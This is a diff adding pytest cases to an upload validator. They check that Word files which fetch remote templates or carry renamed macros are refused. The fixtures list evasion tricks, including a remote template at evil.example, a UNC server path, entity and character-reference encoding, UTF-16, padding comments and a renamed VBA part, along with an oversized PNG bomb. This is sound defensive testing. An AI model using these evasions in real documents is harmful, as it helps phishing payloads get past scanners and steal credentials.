@@ -47,6 +47,84 @@ def bomb() -> bytes:
     return buffer.getvalue()
 
 
+RELS = "word/_rels/settings.xml.rels"
+DOCUMENT = "http://schemas.openxmlformats.org/package/2006/relationships"
+PREFIXED = (
+    TEMPLATE.replace(b"<Relationships>", f'<p:Relationships xmlns:p="{DOCUMENT}">'.encode())
+    .replace(b"<Relationship ", b"<p:Relationship ")
+    .replace(b"</Relationships>", b"</p:Relationships>")
+)
+PICTURE = TEMPLATE.replace(b"attachedTemplate", b"image")
+MACROS = b"""<Types><Override PartName="/word/other.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>"""
+OWN_TEMPLATE = TEMPLATE.replace(b"https://evil.example/x.dotm", b"file:///C:\\Users\\Vera\\My%20forms\\x.dotm")
+SERVER = TEMPLATE.replace(b"https://evil.example/x.dotm", b"file:///%5C%5Cevil.example\\x.dotm")
+
+
+def typed(types: bytes) -> bytes:
+    """A Word document with content types of its own."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("[Content_Types].xml", types)
+        archive.writestr("word/document.xml", "<document/>")
+    return buffer.getvalue()
+
+
+def with_main_part(name: str) -> bytes:
+    """As some programs write it: the main part has another name."""
+    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
+    root = f'<Relationships><Relationship Id="r" Type="{kind}" Target="{name}"/></Relationships>'
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        for part, content in (("[Content_Types].xml", "<Types/>"), ("_rels/.rels", root), (name, "<document/>")):
+            archive.writestr(part, content)
+    return buffer.getvalue()
+
+
+FETCHING: dict[str, bytes] = {
+    "prefixed names": docx(extra={RELS: PREFIXED}),
+    "character references": docx(extra={RELS: TEMPLATE.replace(b'"External"', b'"&#69;xternal"')}),
+    "UTF-16": docx(extra={RELS: TEMPLATE.decode().encode("utf-16")}),
+    "a megabyte of room": docx(extra={RELS: TEMPLATE.replace(b"<Rel", b"<!--" + b"x- " * 400_000 + b"--><Rel", 1)}),
+    "another folder": docx(extra={"custom/_rels/part.xml.rels": TEMPLATE}),
+    "the root": docx(extra={"_rels/.rels": TEMPLATE}),
+    "an external picture": docx(extra={RELS: PICTURE}),
+    "a server's folder": docx(extra={RELS: SERVER}),
+    "an entity": docx(extra={RELS: b'<!DOCTYPE r [<!ENTITY e "External">]>' + TEMPLATE}),
+    "no XML": docx(extra={RELS: b"<Relationships"}),
+    "macros of another name": typed(MACROS),
+}
+
+
+@pytest.mark.parametrize("trick", FETCHING)
+def test_a_word_file_that_fetches_or_runs_is_refused_however_it_hides_it(tmp_path: Path, trick: str) -> None:
+    """Eight of ten ways around a search for the word «External» passed."""
+    storage = Storage(tmp_path)
+    temporary = storage.incoming()
+    temporary.write_bytes(FETCHING[trick])
+    with pytest.raises(DomainError, match="document_broken"):
+        storage.keep(temporary, "справка.docx")
+
+
+@pytest.mark.parametrize(
+    "content",
+    [docx(extra={RELS: OWN_TEMPLATE}), with_main_part("word/document2.xml"), b"\xef\xbb\xbf" + PDF],
+    ids=["a template on the author's disk", "document2.xml", "a BOM before the header"],
+)
+def test_what_honest_programs_write_is_kept(tmp_path: Path, content: bytes) -> None:
+    storage = Storage(tmp_path)
+    temporary = storage.incoming()
+    temporary.write_bytes(content)
+    storage.keep(temporary, "справка")
+
+
+def test_a_picture_of_a_thousand_million_pixels_is_refused(tmp_path: Path) -> None:
+    storage = Storage(tmp_path)
+    temporary = storage.incoming()
+    temporary.write_bytes(PNG[:16] + struct.pack(">2I", 30_000, 30_000) + PNG[24:])
+    with pytest.raises(DomainError, match="document_broken"):
+        storage.keep(temporary, "x.png")
+
+
 HOSTILE: dict[str, Callable[[], bytes]] = {
     "page.pdf": lambda: SCRIPT,
     "picture.png": lambda: SVG,
